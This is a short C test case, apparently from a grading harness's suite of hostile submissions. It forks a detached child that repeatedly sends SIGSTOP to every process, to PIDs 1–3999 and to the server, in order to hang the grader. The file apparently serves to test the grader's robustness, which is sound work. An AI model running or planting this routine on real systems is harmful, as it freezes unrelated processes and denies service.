/*
 * Tries: to stop the grader and what looks after it, so that it hangs: SIGSTOP to every process,
 * then to itself, from a child that has left its session.
 * Must come: its checks fail within their time.
 *
 * lab: 01
 * checks: 11,21
 * base: echo.c
 */
void attack(enum moment moment)
{
    pid_t server = getpid();
    if (moment != LISTENING || fork() > 0)
        return;
    setsid();
    for (int round = 0; round < 50; round++) {
        kill(-1, SIGSTOP);
        for (int pid = 1; pid < 4000; pid++)
            if (pid != getpid())
                kill(pid, SIGSTOP);
        kill(server, SIGSTOP);
        usleep(20000);
    }
    raise(SIGSTOP);
}
